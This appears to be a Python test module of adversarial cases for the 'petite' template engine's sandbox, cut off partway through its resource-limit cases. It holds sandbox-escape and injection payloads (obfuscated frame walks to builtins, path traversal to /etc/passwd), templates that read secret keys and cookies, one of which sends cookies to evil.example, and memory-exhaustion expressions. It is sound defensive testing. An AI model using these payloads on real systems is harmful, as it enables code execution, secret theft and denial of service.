"""An outsider's attacks (classes 1, 4, 5, 6 and the integrations): mechanisms the rest
of the corpus does not try.

- class 1: template text that reaches generated code through the places the other
  files leave out: component files of `petite.Templates` (file names, props, slots,
  scoped-slot patterns, layouts and their doctypes), `v-for` destructuring, delimiters
  made of regex metacharacters, the command line;
- class 4: destructuring and iteration protocols (which read members without the
  member rules), tagged templates, `instanceof`/indexing of host classes (Python hooks),
  writes and deletes through `Object.assign`/`delete`, host values of the standard
  library (bytes, datetime, frozenset, a `functools.partial`), methods a framework marks
  as altering data (`alters_data`), Flask's template context;
- class 5: work and memory done by Python itself on behalf of an expression (replacement
  expansion, joins of shared strings, display of huge or cyclic data, digits of big
  numbers, host methods of bytes), per-item work of v-for over data;
- class 6: hand-made protocol messages the live corpus leaves out (oversized hello,
  forged `seen`, binary frames, `.once` replays, `inert` subtrees, values no user could
  type).

Each attack says what must hold (see harness.py); the ones that still succeed are in
known.py with their cause.
"""

from __future__ import annotations

import dataclasses
import datetime
import fractions
import functools
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import petite

from .harness import CANARY, ENV, FILE, SECRET, Attack, assert_refused, helper, hostile_data

PWN_ENV = f"__import__('os').environ.update([('{ENV}', 'pwned')])"
FRAME_WALK = (
    "[b['__import__']('os').ｅnviron.ｕpdate({'" + ENV + "':'pwned'})"
    "for(z)in[1]for(g)in[((g.ｇi_frame.ｆ_back.ｆ_back.ｆ_back.ｆ_builtins)for(q)in[1])]for(b)in(g)]"
)
BREAKS = {  # ways out of a Python string / f-string / line, each running FRAME_WALK
    "sq": "a'+str(" + FRAME_WALK + ")+'",
    "dq": 'a"+str(' + FRAME_WALK + ')+"',
    "brace": "a{str(" + FRAME_WALK + ")}",
    "nl": "a'\n" + FRAME_WALK + "\n'",
    "bs": "a\\'+str(" + FRAME_WALK + ")+\\'",
    "div": "a'+str(1//0)+'",
}


def _no_python_ran(outcome) -> None:
    error = outcome.error
    while error is not None:
        assert not isinstance(error, (ZeroDivisionError, NameError, SyntaxError)), (
            f"template text was pasted into Python: {type(error).__name__}: {error}")
        error = error.__cause__ or error.__context__
    assert "pwned" not in (outcome.output or "")


# -- class 1: petite.Templates (component files, props, slots, layouts) ------------------------
def _templates_run(files: dict[str, str], page: str, data=None):
    """Write `files` into a fresh folder and render `page` (a file name) through
    petite.Templates; the outcome is the HTML."""

    def run():
        with tempfile.TemporaryDirectory() as folder:
            for name, text in files.items():
                path = Path(folder, name)
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text, encoding="utf-8")
            templates = petite.Templates(folder)
            return templates.render(page, data if data is not None else hostile_data())

    return run


def _loader_attacks() -> list[Attack]:
    out = []

    def add(id, files, page="page.html", must="safe", data=None):
        out.append(Attack(f"c1-out-loader-{id}", 1, path="custom", run=_templates_run(files, page, data), must=must,
                          check=_no_python_ran))

    for key, text in BREAKS.items():
        # a component's tag comes from its file name; the file name holds the payload
        safe = text.replace("/", "").replace("\n", "").replace(" ", "")
        add(f"component-file-{key}", {f"components/x-{safe}.html": "<b>{{ x }}</b>",
                                      "page.html": f"<div><x-{safe}></x-{safe}></div>"})
        add(f"prop-value-{key}", {"components/x-card.html": "<b>{{ title }}</b>",
                                  "page.html": f'<x-card title="{_attr(text)}"></x-card>'})
        add(f"prop-default-{key}", {"components/x-card.html": f"<script props>{{ title: {json.dumps(text)} }}</script><b>{{{{ title }}}}</b>",
                                    "page.html": "<x-card></x-card>"})
        add(f"slot-name-{key}", {"components/x-card.html": f'<div><slot name="{_attr(text)}">fallback</slot></div>',
                                 "page.html": f'<x-card><template #{safe}>{{{{ x }}}}</template></x-card>'})
        add(f"scoped-slot-{key}", {"components/x-list.html": '<ul><li v-for="i in items"><slot :item="i" :extra="\'' + _attr(text.replace("'", "")) + '\'"></slot></li></ul>',
                                   "page.html": '<x-list><template #default="{ item, extra }">{{ item }}{{ extra }}</template></x-list>'})
        add(f"fallthrough-{key}", {"components/x-card.html": "<script props>{ title: '' }</script><b>{{ title }}</b>",
                                   "page.html": f'<x-card data-{safe}="1" :title="x"></x-card>'})
        add(f"layout-doctype-{key}", {"components/x-layout.html": f"<!DOCTYPE html{safe.replace('>', '')}><html><body><slot></slot></body></html>",
                                      "page.html": "<x-layout><p>{{ x }}</p></x-layout>"})
        add(f"layout-prop-{key}", {"components/x-layout.html": "<!DOCTYPE html><html><head><title>{{ title }}</title></head><body><slot></slot></body></html>",
                                   "page.html": f'<x-layout title="{_attr(text)}"><p>{{{{ x }}}}</p></x-layout>'})
    add("page-name-traversal", {"page.html": "<p>x</p>"}, page="../" * 12 + "etc/passwd", must="error")
    add("page-name-absolute", {"page.html": "<p>x</p>"}, page="/etc/passwd", must="error")
    add("page-name-nul", {"page.html": "<p>x</p>"}, page="page.html\x00.txt", must="error")
    add("page-name-backslash", {"page.html": "<p>x</p>"}, page="..\\..\\etc\\passwd", must="error")
    add("props-script-call", {"components/x-card.html": "<script props>{ title: fn.__globals__.CANARY.fire() }</script><b>{{ title }}</b>",
                              "page.html": "<x-card></x-card>"})
    add("props-name-python", {"components/x-card.html": "<b>{{ x }}</b>",
                              "page.html": f'<x-card :a{BREAKS["div"].replace(" ", "")}="1"></x-card>'}, must="error")
    return out


def _attr(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;")


# -- class 1: v-for destructuring, delimiters with regex metacharacters, the CLI -----------------
def _codegen_attacks() -> list[Attack]:
    out = []

    def add(id, template, data=None, path="render", must="safe"):
        out.append(Attack(f"c1-out-{id}", 1, template, data=data, path=path, must=must, check=_no_python_ran))

    patterns = {
        "default-python": "{ a = " + "'pw'+'ned' }",
        "default-div": "{ a = 1//0 }",
        "renamed-quote": "{ a: b\\u0027 }",
        "nested-default": "{ a: { b = `${1//0}` } }",
        "computed-key": "{ ['x' + '\\'+str(1//0)+\\'']: a }",
        "array-hole": "[, , a = 'pw' + 'ned']",
        "rest": "{ ...rest }",
        "unicode-escape-name": "{ \\u0061\\u0027 }",
        "string-key": "{ 'a\\'+str(1//0)+\\'': b }",
    }
    for key, pattern in patterns.items():
        for path in ("render", "mount"):
            add(f"for-pattern-{key}-{path}", f'<i v-for="{_attr(pattern)} in [obj]">{{{{ typeof a }}}}</i>', path=path)
    metas = [["(?P<x>", ")"], ["\\", "\\"], ["[", "]"], ["^", "$"], ["(", ")"], ["*", "*"], [".*", ".*"],
             ["{{", "}}\\"], ["\\(", "\\)"], ["|", "|"], ["(?=", ")"], ["\\1", "\\1"]]
    for i, delims in enumerate(metas):
        for path in ("render", "mount"):
            add(f"delims-regex-{i}-{path}", "<p>{{ x }} (x) [x] *x* |x| \\x\\ ^x$ .*x.*</p>",
                data={"x": 1, "$delimiters": delims}, path=path)
    add("delims-not-strings", "<p>{{ x }}</p>", data={"x": 1, "$delimiters": [1, None]})
    add("delims-one", "<p>{{ x }}</p>", data={"x": 1, "$delimiters": ["{{"]}, must="error")
    add("delims-huge", "<p>{{ x }}</p>", data={"x": 1, "$delimiters": ["{" * 100000, "}" * 100000]})
    add("delims-object", "<p>{{ x }}</p>", data={"x": 1, "$delimiters": {"0": "[[", "1": "]]"}}, must="error")
    # malformed delimiters from data (or the host's option): a petite error on every entry point
    malformed = {"three": ["[[", "]]", "x"], "string": "[]", "nested": [["[["], ["]]"]], "empty": ["", ""],
                 "number": 7, "half-empty": ["[[", ""], "object-list": [{"toString": "[["}, "]]"]}
    for key, delims in malformed.items():
        for path in ("render", "mount", "compile"):
            add(f"delims-malformed-{key}-{path}", "<p>{{ x }}</p>", data={"x": 1, "$delimiters": delims}, path=path,
                must="error")
    add("delims-one-mount", "<p>{{ x }}</p>", data={"x": 1, "$delimiters": ["{{"]}, path="mount", must="error")
    add("delims-object-mount", "<p>{{ x }}</p>", data={"x": 1, "$delimiters": {"0": "[[", "1": "]]"}}, path="mount",
        must="error")
    out.append(Attack("c1-out-delims-create-app", 1, path="custom", must="error",
                      run=lambda: petite.create_app({"x": 1, "$delimiters": ["[["]})))
    out.append(Attack("c1-out-delims-option", 1, path="custom", must="error",
                      run=lambda: petite.compile("<p>{{ x }}</p>", delimiters=("[[",)).render({"x": 1})))
    out.append(Attack("c1-out-delims-loader-option", 1, path="custom", must="error",
                      run=lambda: petite.Templates(tempfile.gettempdir(), delimiters=["[[", 5])))
    add("delims-scope", '<div v-scope="{ $delimiters: [\'\\\'+str(1//0)+\\\'\', \']]\'] }"><p>{{ x }}</p></div>',
        data={"x": 1})
    return out


def _cli_run(args: list[str], page: str, data_text: str | None = None):
    """`python -m petite ARGS PAGE [--data DATA]` in a child: the canary file must not appear."""

    def run():
        with tempfile.TemporaryDirectory() as folder:
            page_path = Path(folder, "page.html")
            page_path.write_text(page, encoding="utf-8")
            extra = []
            if data_text is not None:
                data_path = Path(folder, "data.json")
                data_path.write_text(data_text, encoding="utf-8")
                extra = ["--data", str(data_path)]
            env = {**os.environ, ENV: "intact"}
            child = subprocess.run([sys.executable, "-m", "petite", *args, str(page_path), *extra],
                                   capture_output=True, text=True, timeout=60, env=env, cwd=folder)
            assert not os.path.exists(FILE), "the command line wrote the canary file"
            assert "Traceback (most recent call last)" not in child.stderr, child.stderr[-1500:]
            assert "pwned" not in child.stdout
            return child.returncode

    return run


FILE_WALK = (
    "[b['open']('" + FILE + "','w')for(z)in[1]for(g)in[((g.ｇi_frame.ｆ_back.ｆ_back.ｆ_back.ｆ_builtins)"
    "for(q)in[1])]for(b)in(g)]"
)


def _cli_attacks() -> list[Attack]:
    out = []

    def add(id, args, page, data_text=None):
        out.append(Attack(f"c1-out-cli-{id}", 1, path="custom", run=_cli_run(args, page, data_text), must="renders"))

    add("render-attr", ["render"], f"<p :a'+str({FILE_WALK})+'=\"x\">t</p>", '{"x": 1}')
    add("compile-attr", ["compile"], f"<p :a'+str({FILE_WALK})+'=\"x\">t</p>")
    add("render-delims-data", ["render"], "<p>{{ x }}</p>", json.dumps({"x": 1, "$delimiters": ["'+str(" + FILE_WALK + ")+'", "]]"]}))
    add("render-template-data", ["render"], '<div v-scope="{ $template: t }"></div>',
        json.dumps({"t": f"<p :a'+str({FILE_WALK})+'=\"x\">t</p>", "x": 1}))
    add("render-data-not-object", ["render"], "<p>{{ x }}</p>", "[1, 2, 3]")
    add("render-data-deep", ["render"], "<p>{{ x }}</p>", "[" * 100000 + "]" * 100000)
    add("render-data-huge-int", ["render"], "<p>{{ x }}</p>", '{"x": ' + "9" * 5000 + "}")
    add("render-data-bad-json", ["render"], "<p>{{ x }}</p>", "{x: 1}")
    add("render-data-deep-object", ["render"], "<p>{{ x }}</p>", '{"x": ' + '{"a": ' * 50000 + "1" + "}" * 50001)
    add("render-data-deep-shown", ["render"], "<p>{{ x }}</p>", '{"x": ' + "[" * 900 + "]" * 900 + "}")
    add("render-data-huge-negative-int", ["render"], '<p :title="x">{{ -x }}</p>', '{"x": -' + "9" * 4400 + "}")
    add("render-data-int-past-float", ["render"], '<p :title="x">{{ x }} {{ x + 1 }}</p>', '{"x": 1' + "0" * 400 + "}")
    add("render-data-huge-exponent", ["render"], "<p>{{ x }}</p>", '{"x": 1e999999}')
    return out


# -- class 4: the sandbox through protocols that read members ----------------------------------
class AltersData:
    """A framework model: methods that change the database are marked `alters_data`
    (Django's template language never calls them; a template must not either)."""

    def __init__(self) -> None:
        self.title = "post"

    def delete(self):
        CANARY.fire("delete")

    delete.alters_data = True

    def save(self):
        CANARY.fire("save")

    save.alters_data = True

    def do_not_call(self):
        CANARY.fire("do_not_call")

    do_not_call.do_not_call_in_templates = True


def _settings_module():
    """A settings module handed to templates (its globals are not public fields)."""
    import types

    module = types.ModuleType("site_settings")
    module.SITE = "example"
    module.SECRET_KEY = SECRET
    module.os = os
    return module


@dataclasses.dataclass
class Holder:
    """A dataclass whose public field holds the canary (a public method named fire)."""

    payload: object = None


def _rich_data():
    data = hostile_data()
    data.update({
        "bytes_": b"ab",
        "barr": bytearray(b"ab"),
        "when": datetime.datetime(2020, 1, 2, 3, 4, 5),
        "fset": frozenset({1, 2}),
        "part": functools.partial(os.putenv, ENV, "pwned"),
        "model": AltersData(),
        "canary_gen": (helper for _ in range(3)),
        "canary_iter": iter([CANARY, CANARY]),
        "nums": range(3),
        "tup": (helper,),
        "holder": Holder(payload=helper),
        "cfg": _settings_module(),
    })
    return data


SANDBOX_EXPRESSIONS = {
    # destructuring reads members: the member rules must hold there as well
    "destructure-dunder": "(({ __class__: c }) => String(c))(acct)",
    # iteration: one rule for for…of, spread, Array.from, destructuring, Set/Map and v-for
    "for-of-iterator": "(() => { for (const c of canary_iter) c.fire() })()",
    "spread-iterator": "[...canary_iter][0].fire()",
    "array-from-gen": "Array.from(gen)[0].fire()",
    "set-from-iterator": "[...new Set(canary_iter)][0].fire()",
    "map-from-gen": "new Map(gen).size",
    "destructure-array-iter": "(() => { const [c] = canary_iter; return c.fire() })()",
    "from-entries-gen": "Object.fromEntries(gen)",
    "destructure-private": "(({ _secret: s }) => s)(acct)",
    "destructure-globals": "(({ __globals__: g }) => g)(fn)",
    "destructure-computed": "(({ ['__glo' + 'bals__']: g }) => g.CANARY.fire())(fn)",
    "destructure-let": "(() => { const { _secret } = acct; return _secret })()",
    "destructure-nested": "(() => { const { greet: { __func__: f } } = acct; return f })()",
    "destructure-frame": "(() => { const { gi_frame: f } = gen; return f.f_globals.CANARY.fire() })()",
    "destructure-traceback": "(() => { const { __traceback__: t } = exc; return t.tb_frame })()",
    "destructure-catch": "(() => { try { throw exc } catch ({ __traceback__: t }) { return t.tb_frame.f_globals.CANARY.fire() } })()",
    "destructure-for-of": "(() => { for (const { __class__: c } of [acct]) return c })()",
    "destructure-default-call": "(({ x = bi_eval(\"" + PWN_ENV + "\") }) => x)({})",
    "destructure-array-gen": "(() => { const [c] = canary_gen; return c.__globals__.CANARY.fire() })()",
    "destructure-array-tuple": "(() => { const [c] = tup; return c.__globals__.CANARY.fire() })()",
    "destructure-array-range-gen": "(([c]) => c.__globals__.CANARY.fire())(canary_gen)",
    "destructure-rest-host": "(({ ...rest }) => rest)(acct)",
    "destructure-module": "(({ environ }) => environ)(mod)",
    "destructure-dataclass": "(({ payload }) => payload.__globals__.CANARY.fire())(holder)",
    # iteration protocols of host values
    "spread-tuple": "[...tup][0].__globals__.CANARY.fire()",
    "from-tuple": "Array.from(tup)[0].__globals__.CANARY.fire()",
    "map-from-gen": "new Map([[1, 2]]).set('g', [...canary_gen])",
    "set-from-gen": "[...new Set(canary_gen)][0].__globals__.CANARY.fire()",
    "fromentries-gen": "Object.fromEntries(canary_gen)",
    "promise-all-gen": "Promise.all(canary_gen)",
    "math-max-gen": "Math.max(...canary_gen)",
    "concat-tuple": "[].concat(tup)[0].__globals__.CANARY.fire()",
    "join-gen": "[canary_gen].join()",
    "await-gen": "(async () => (await canary_gen).__globals__.CANARY.fire())()",
    "for-in-tuple": "(() => { for (const k in tup) return tup[k].__globals__.CANARY.fire() })()",
    "module-entries": "Object.entries(cfg)",
    "module-assign": "Object.assign({}, cfg)",
    "module-spread": "({ ...cfg })",
    "module-json": "JSON.stringify(cfg)",
    "range-display": "nums",
    # Python hooks reached by operators on host classes
    "class-getitem": "hooked[1]",
    "class-getitem-string": "hooked['x']",
    "instanceof-hooked": "acct instanceof hooked",
    "in-class": "'fire' in hooked",
    "tagged-eval": "bi_eval`" + PWN_ENV.replace("`", "") + "`",
    "tagged-format": "str_format`{0.__init__.__globals__}`",
    "tagged-raw": "String.raw`${fn.__globals__}`",
    "tagged-method": "acct.greet`x`",
    # writes and deletes of host objects
    "assign-private": "(Object.assign(acct, { _secret: 'x' }), acct._secret)",
    "assign-dunder": "Object.assign(acct, { __class__: cls })",
    "assign-method": "(Object.assign(acct, { greet: bi_eval }), acct.greet(\"" + PWN_ENV + "\"))",
    "delete-private": "delete acct._secret",
    "delete-method": "delete acct.greet",
    "delete-dunder": "delete acct.__dict__",
    "delete-module-attr": "delete mod.environ",
    "write-module": "mod.environ = {}",
    "write-class-attr": "cls.kind = 'x'",
    "write-dataclass-fields": "point.__dataclass_fields__ = {}",
    "write-function-defaults": "fn.__defaults__ = [1]",
    "write-gen": "gen.gi_frame = 1",
    "write-exc-traceback": "exc.__traceback__ = null",
    "increment-host": "acct._secret++",
    "compound-host": "acct.__dict__ += 'x'",
    # values of the standard library handed over as data
    "partial-call": "part()",
    "partial-func": "part.func('" + ENV + "', 'pwned')",
    "partial-args": "part.args",
    "bytes-decode": "bytes_.decode('utf-8')",
    "bytes-fromhex": "bytes_.fromhex('41')",
    "datetime-fromtimestamp": "when.fromtimestamp(1e20)",
    "datetime-strptime": "when.strptime('x', '%Y')",
    "datetime-tzinfo": "when.tzinfo",
    "datetime-astimezone": "when.astimezone().tzinfo",
    "model-delete": "model.delete()",
    "model-save": "model.save()",
    "model-delete-stored": "(() => { const d = model.delete; return d() })()",
    "model-delete-map": "[1].map(() => model.delete())",
    "model-delete-call": "model.delete.call(model)",
    "model-do-not-call": "model.do_not_call()",
    # names a JavaScript engine has that petite must not map to Python
    "import-call": "import('os')",
    "globalthis": "globalThis.process",
    "window-eval": "window.eval('1')",
    "new-target": "(function () { return new.target })()",
    "set-timeout-string": "setTimeout(\"" + PWN_ENV + "\")",
    "queue-microtask": "queueMicrotask(() => bi_eval(\"" + PWN_ENV + "\"))",
    "structured-clone": "structuredClone(acct)",
    "with-statement": "(() => { with (mod) { putenv('" + ENV + "', 'pwned') } })()",
    "label-eval": "eval(\"" + PWN_ENV + "\")",
    "arguments-callee": "(function () { return arguments.callee.caller })()",
    "error-capture": "(() => { try { null.x } catch (e) { return [e.constructor, e.__class__, e.__traceback__, e.__context__] } })()",
    "error-prepare": "(() => { Error.prepareStackTrace = () => bi_eval(\"" + PWN_ENV + "\"); return new Error().stack })()",
    "symbol-species": "(() => { const a = [1]; a.constructor = { [Symbol.species]: bi_eval }; return a.map(x => x) })()",
    "json-reviver-this": "JSON.parse('{\"a\": 1}', function (k, v) { return k === '' ? String(this) : v })",
    "getter-host-proto": "({ __proto__: acct })._secret",
    "object-create-dunder": "Object.create(fn).__globals__",
    "sort-host-compare": "[acct, point].sort((a, b) => a._secret < b._secret ? -1 : 1)[0]._secret",
    "localecompare-host": "'a'.localeCompare(acct)",
    "date-host": "new Date(acct).getTime()",
    "number-host": "Number(acct)",
    "regexp-host": "new RegExp(acct).source",
    "string-proto-host": "String.prototype.concat.call(acct, fn)",
}


def _sandbox_attacks() -> list[Attack]:
    out = []
    for key, expr in SANDBOX_EXPRESSIONS.items():
        out.append(Attack(f"c4-out-expr-{key}", 4, expr, path="expr", data=_rich_data))
    for key in ("destructure-computed", "destructure-array-gen", "model-delete", "class-getitem", "partial-call",
                "tagged-eval", "assign-method", "spread-tuple", "destructure-dataclass"):
        expr = SANDBOX_EXPRESSIONS[key].replace("<", "&lt;")
        out.append(Attack(f"c4-out-render-{key}", 4, f"<p>{{{{ {expr} }}}}</p>", path="render", data=_rich_data))
        out.append(Attack(f"c4-out-mount-{key}", 4, f'<p :title="{_attr(SANDBOX_EXPRESSIONS[key])}">x</p>',
                          path="mount", data=_rich_data))
    templates = {
        "vfor-gen": '<i v-for="c in gen">{{ c.fire() }}</i>',
        "vfor-gen-index": '<i v-for="(c, i) in gen">{{ c.fire() }}</i>',
        "vfor-gen-template": '<template v-for="c of gen"><b>{{ c.fire() }}</b></template>',
        "vfor-iterator": '<i v-for="c in canary_iter">{{ c.fire() }}</i>',
        "vfor-gen-nested": '<div v-for="g in [gen]"><i v-for="c in g">{{ c.fire() }}</i></div>',
        "vfor-gen-keyed": '<i v-for="c in gen" :key="c.fire()">x</i>',
        "vfor-gen-globals": '<i v-for="c in canary_gen">{{ c.__globals__.CANARY.fire() }}</i>',
        "vfor-tuple": '<i v-for="c in tup">{{ c.__globals__.CANARY.fire() }}</i>',
        "vfor-destructure-gen": '<i v-for="[c] in [canary_gen]">{{ c.__globals__.CANARY.fire() }}</i>',
        "vfor-destructure-dunder": '<i v-for="{ __class__: c } in [acct]">{{ String(c) }}</i>',
        "vfor-destructure-globals": '<i v-for="{ __globals__: g } in [fn]">{{ g.CANARY.fire() }}</i>',
        "vfor-destructure-payload": '<i v-for="{ payload } in [holder]">{{ payload.__globals__.CANARY.fire() }}</i>',
        "vbind-settings-module": '<p v-bind="cfg">x</p>',
        "class-settings-module": '<p :class="cfg">x</p>',
        "style-settings-module": '<p :style="cfg">x</p>',
        "vfor-settings-module": '<i v-for="(v, k) in cfg">{{ v }}</i>',
        "vfor-object-host": '<i v-for="(v, k) in acct">{{ k }}={{ v }}</i>',
        "vfor-object-module": '<i v-for="(v, k) in mod">{{ k }}</i>',
        "vfor-object-fn": '<i v-for="(v, k) in fn">{{ k }}={{ v }}</i>',
        "scope-destructure": '<div v-scope="{ c: tup[0] }">{{ c.__globals__.CANARY.fire() }}</div>',
        "model-alters-handler": '<button @click="model.delete()">x</button>',
        "ref-fn-globals": '<p ref="__globals__">{{ $refs.__globals__ }}</p>',
        "vbind-host-object": '<p v-bind="acct">x</p>',
        "vbind-module": '<p v-bind="mod">x</p>',
        "class-host-object": '<p :class="acct">x</p>',
        "style-host-object": '<p :style="acct">x</p>',
        "vmodel-host-attr": '<input v-model="acct._secret">',
        "vmodel-dunder": '<input v-model="fn.__defaults__">',
        "vtext-host-exc": '<p v-text="exc"></p>',
        "vfor-key-dunder": '<i v-for="x in items" :key="x.__class__">{{ x }}</i>',
    }
    for key, template in templates.items():
        for path in ("render", "mount"):
            steps = (("click", "button"),) if path == "mount" and "@click" in template else ()
            out.append(Attack(f"c4-out-tpl-{key}-{path}", 4, template, path=path, data=_rich_data, steps=steps))
    return out


# -- integrations: Flask's template context --------------------------------------------------
def _flask_run(template: str, expect_absent: str = SECRET, *, cookie: str = "", authorization: str = ""):
    def run():
        import flask

        from petite.flask import Petite, render_template_string

        app = flask.Flask("petite_attack")
        app.config["SECRET_KEY"] = SECRET
        Petite(app)
        headers = {"Cookie": cookie} if cookie else {}
        if authorization:
            headers["Authorization"] = authorization
        with app.test_request_context("/?q=1", headers=headers):
            try:
                html = render_template_string(template)
            except Exception as error:  # noqa: BLE001 - only a refusal passes: nothing shown
                assert_refused(error)
                html = ""
        assert expect_absent not in html, f"an untrusted template read {expect_absent!r}: {html[:300]!r}"
        assert app.config["SECRET_KEY"] == SECRET, "a template rewrote the app's config"
        return html

    return run


def _integration_attacks() -> list[Attack]:
    out = []
    SESSION = "session=" + SECRET
    cases = {
        "config-secret": ("<p>{{ config.SECRET_KEY }}</p>", SECRET, ""),
        "config-index": ("<p>{{ config['SECRET' + '_KEY'] }}</p>", SECRET, ""),
        "config-display": ("<p>{{ config }}</p>", SECRET, ""),
        "config-json": ("<p>{{ JSON.stringify(config) }}</p>", SECRET, ""),
        "config-values": ("<p>{{ Object.values(config).join() }}</p>", SECRET, ""),
        "config-vfor": ('<p v-for="(v, k) in config">{{ v }}</p>', SECRET, ""),
        "config-write": ("<p>{{ (config.SECRET_KEY = 'x', 1) }}</p>", "never", ""),
        "cookie-header": ("<img :src=\"'https://evil.example/?' + request.headers.get('Cookie')\">", SECRET, SESSION),
        "cookie-jar": ("<p>{{ request.cookies }}</p>", SECRET, SESSION),
        # the same class: what a browser keeps from script, by any other way to it
        "cookie-header-lower": ("<p>{{ request.headers.get('cookie') }}</p>", SECRET, SESSION),
        "cookie-environ": ("<p>{{ request.environ.HTTP_COOKIE }} {{ request.environ }}</p>", SECRET, SESSION),
        "cookie-display": ("<p>{{ request }} {{ JSON.stringify(request) }} {{ request.headers }}</p>", SECRET, SESSION),
        "cookie-entries": ('<p v-for="(v, k) in request">{{ k }}={{ v }}</p>', SECRET, SESSION),
        "cookie-headers-vfor": ('<p v-for="h in request.headers">{{ h }}</p>', SECRET, SESSION),
        "authorization-header": ("<p>{{ request.headers.get('Authorization') }} {{ request.authorization }}</p>",
                                 SECRET, "auth"),
    }
    for key, (template, absent, cookie) in cases.items():
        auth = cookie == "auth"
        run = _flask_run(template, absent, cookie="" if auth else cookie, authorization="Bearer " + SECRET if auth else "")
        out.append(Attack(f"c4-out-flask-{key}", 4, path="custom", run=run, must="renders"))
    starlette_cases = {
        "cookie-header": "<p>{{ request.headers.get('cookie') }} {{ request.headers }}</p>",
        "cookie-jar": "<p>{{ request.cookies }} {{ request.scope }}</p>",
        "cookie-scope-headers": '<p v-for="h in request.headers">{{ h }}</p><p v-for="(v, k) in request">{{ k }}{{ v }}</p>',
        "authorization": "<p>{{ request.headers.get('authorization') }} {{ JSON.stringify(request) }}</p>",
        "session": "<p>{{ request.session }} {{ JSON.stringify(request.session) }}</p>",
    }
    for key, template in starlette_cases.items():
        out.append(Attack(f"c4-out-starlette-{key}", 4, path="custom", run=_starlette_run(template), must="renders"))
    return out


def _starlette_run(template: str):
    """A Starlette `TemplateResponse` for a request carrying a session cookie, an
    Authorization header and a session: none of them may reach the page."""

    def run():
        from starlette.requests import Request

        from petite.starlette import PetiteTemplates

        with tempfile.TemporaryDirectory() as folder:
            Path(folder, "page.html").write_text(template, encoding="utf-8")
            scope = {
                "type": "http", "method": "GET", "path": "/", "query_string": b"q=1", "scheme": "http",
                "server": ("testserver", 80), "root_path": "", "session": {"token": SECRET},
                "headers": [(b"cookie", f"session={SECRET}".encode()), (b"authorization", f"Bearer {SECRET}".encode()),
                            (b"host", b"testserver")],
            }
            try:
                html = PetiteTemplates(folder).TemplateResponse(Request(scope), "page.html").body.decode()
            except Exception as error:  # noqa: BLE001 - only a refusal passes: nothing shown
                assert_refused(error)
                html = ""
        assert SECRET not in html, f"an untrusted template read the secret: {html[:300]!r}"
        return html

    return run




# -- class 5: work and memory done by Python on an expression's behalf ----------------------------
BIG = "'x'.repeat(999000)"
LIMIT_EXPRESSIONS = {
    # one built-in call whose output is far larger than its inputs
    "replace-expansion": "'x'.repeat(100000).replace(/x/g, 'y'.repeat(10000)).length",
    "replace-dollar-expansion": "'x'.repeat(100000).replace(/(x)/g, '$1'.repeat(5000)).length",
    "replaceall-expansion": "'x'.repeat(100000).replaceAll('x', 'y'.repeat(10000)).length",
    "replace-fn-expansion": "(() => { const y = 'y'.repeat(999000); return 'x'.repeat(2000).replace(/x/g, () => y).length })()",
    "split-join-expansion": "'x'.repeat(100000).split('').join('y'.repeat(10000)).length",
    "join-shared": "Array(1000).fill('x'.repeat(999000)).join('').length",
    "tostring-shared": "String(Array(1000).fill('x'.repeat(999000))).length",
    "template-shared": "(() => { const a = Array(1000).fill('x'.repeat(999000)); return `${a}`.length })()",
    "concat-shared": "''.concat(...Array(1000).fill('x'.repeat(999000))).length",
    "display-shared": "Array(1000).fill('x'.repeat(999000))",
    "json-shared-strings": "JSON.stringify(Array(1000).fill('x'.repeat(999000))).length",
    "object-keys-shared": "JSON.stringify(Object.fromEntries(Array.from({ length: 1000 }, (_, i) => ['k' + i, 'x'.repeat(999000)]))).length",
    "encode-expansion": "encodeURIComponent('\\u{10000}'.repeat(500000)).length",
    "escape-expansion": "encodeURI('\\u0800'.repeat(999000)).length",
    "upper-expansion": "'\\ufb03'.repeat(999000).toUpperCase().length",
    "pad-expansion": "'x'.padEnd(999999, 'y'.repeat(999999)).padStart(999999).length",
    "tofixed-digits": "(1).toFixed(1000000).length",
    "toprecision-digits": "(1).toPrecision(1000000).length",
    "tolocale-digits": "(1).toLocaleString('en', { minimumFractionDigits: 1000000 }).length",
    "tostring-radix-float": "(0.1).toString(3).repeat(1).length",
    "intl-format-huge": "new Intl.NumberFormat('en', { minimumFractionDigits: 1000000 }).format(1).length",
    "date-locale-huge": "new Date(0).toLocaleDateString('x'.repeat(999000))",
    "regex-replace-groups": "'x'.repeat(99000).replace(/(((((((((((x)))))))))))/g, '$1$2$3$4$5$6$7$8$9$10$11'.repeat(400)).length",
    "matchall-groups": "[...'x'.repeat(99000).matchAll(/(x)(x)?(x)?(x)?(x)?(x)?/g)].length",
    "split-regex-groups": "'x'.repeat(99000).split(/(x)(x)?(x)?(x)?(x)?(x)?(x)?(x)?/).length",
    "json-parse-bigint": "JSON.parse('9'.repeat(5000))",
    "json-parse-exponent": "JSON.parse('1e' + '9'.repeat(5000))",
    "parseint-binary": "parseInt('1'.repeat(999000), 2)",
    "number-hex": "Number('0x' + 'f'.repeat(999000))",
    "number-binary": "Number('0b' + '1'.repeat(999000))",
    "bigint-digits": "BigInt('9'.repeat(999000)) * 2n",
    "shift-huge": "1 << 1e9",
    "int-mul-chain": "(() => { let n = 2 ** 53; for (let i = 0; i < 40; i++) n = n * n; return n })()",
    "date-year-huge": "new Date(8.64e15).setFullYear(1e20)",
    "date-utc-huge": "Date.UTC(1e300, 0)",
    "array-length-assign": "(() => { const a = []; a.length = 4294967295; return a.length })()",
    "array-index-far": "(() => { const a = []; a[4294967294] = 1; return a.length })()",
    "array-fill-far": "new Array(999999).fill([]).flat().length",
    "array-flat-shared": "Array(1000).fill(Array(999000).fill(0)).flat().length",
    "array-concat-shared": "(() => { const a = Array(999000).fill(0); return a.concat(a, a, a, a, a, a, a, a, a, a).length })()",
    "array-spread-shared": "(() => { const a = Array(999000).fill(0); return [...a, ...a, ...a, ...a].length })()",
    "object-spread-many": "(() => { const o = Object.fromEntries(Array.from({ length: 200000 }, (_, i) => [i, i])); let r; for (let i = 0; i < 50; i++) r = { ...o }; return 1 })()",
    "set-spread-shared": "(() => { const s = new Set(Array.from({ length: 999000 }, (_, i) => i)); return [...s, ...s].length })()",
    "structured-keys": "Object.keys('x'.repeat(999000)).length",
    "entries-string": "Object.entries('x'.repeat(999000)).length",
    "sort-comparator-mutates": "(() => { const a = Array.from({ length: 2000 }, (_, i) => i); return a.sort((x, y) => { a.push(x); return x - y }).length })()",
    "sort-inconsistent": "Array.from({ length: 200000 }, (_, i) => i).sort(() => Math.random() - 0.5).length",
